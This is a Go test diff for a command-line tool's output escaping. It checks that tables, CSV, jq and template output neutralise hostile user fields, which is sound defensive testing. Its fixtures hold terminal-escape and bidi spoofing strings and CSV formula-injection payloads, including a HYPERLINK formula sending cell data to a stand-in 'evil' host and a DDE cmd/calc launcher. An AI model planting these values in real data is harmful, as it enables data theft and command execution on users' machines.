@@ -478,3 +478,63 @@ func TestOtherSchemas(t *testing.T) {
 }
 
 func ptr[T any](v T) *T { return &v }
+
+// hostileUser carries terminal escapes, bidi and zero-width characters in
+// the fields a server controls.
+func hostileUser() userapi.User {
+	u := testUsers()[1]
+	u.ID = "x@y.io\r\x1b[2K\x1b[1A"
+	u.Name = "\x1b]8;;http://evil/\x1b\\click\x1b]8;;\x1b\\ \u202eexe.txt\u200b"
+	return u
+}
+
+// Tables escape every unsafe character, visibly, whatever the terminal.
+func TestTableEscapesBidiAndZeroWidth(t *testing.T) {
+	got := render(t, Options{Fields: []string{"id", "name"}}, UserSchema(), true, hostileUser())
+	if strings.ContainsAny(got, "\x1b\r\u202e\u200b") {
+		t.Errorf("unsafe characters in table: %q", got)
+	}
+	for _, want := range []string{`x@y.io\r\x1b[2K\x1b[1A`, `\u202eexe.txt\u200b`} {
+		if !strings.Contains(got, want) {
+			t.Errorf("table lacks %q: %q", want, got)
+		}
+	}
+}
+
+// csv, --jq and --template escape on a terminal and stay exact elsewhere;
+// json escapes by its own rules and is never altered.
+func TestTextFormatsOnTerminal(t *testing.T) {
+	u := hostileUser()
+	for _, opts := range []Options{
+		{Format: "csv", Fields: []string{"id", "name"}},
+		{JQ: ".[] | .id, .name"},
+		{Template: "{{.id}} {{.name}}"},
+	} {
+		raw := render(t, opts, UserSchema(), true, u)
+		if !strings.Contains(raw, u.ID) || !strings.Contains(raw, "\u202e") {
+			t.Errorf("%+v off a terminal: not exact: %q", opts, raw)
+		}
+		opts.Terminal = true
+		got := render(t, opts, UserSchema(), true, u)
+		if strings.ContainsAny(got, "\x1b\r\u202e\u200b") || !strings.Contains(got, `x@y.io\r\x1b[2K\x1b[1A`) {
+			t.Errorf("%+v on a terminal: %q", opts, got)
+		}
+	}
+	got := render(t, Options{Format: "json", Terminal: true}, UserSchema(), false, u)
+	var back userapi.User
+	if err := json.Unmarshal([]byte(got), &back); err != nil || back.ID != u.ID || back.Name != u.Name {
+		t.Errorf("json on a terminal is not exact: %q (%v)", got, err)
+	}
+}
+
+// Cells a spreadsheet would run get a leading apostrophe; others stay.
+func TestCSVNeutralisesFormulas(t *testing.T) {
+	u := testUsers()[1]
+	u.Name = `=HYPERLINK("http://evil/?"&A1,"x")`
+	u.Username = "@SUM(A1:A2)"
+	u.Email = "+cmd|' /C calc'!A0"
+	u.Roles = []string{"-2+3", "b"}
+	got := render(t, Options{Format: "csv", Fields: []string{"name", "username", "email", "roles", "status"}, NoHeader: true}, UserSchema(), true, u)
+	want := `"'=HYPERLINK(""http://evil/?""&A1,""x"")",'@SUM(A1:A2),'+cmd|' /C calc'!A0,'-2+3;b,disabled` + "\n"
+	assertEqual(t, got, want)
+}
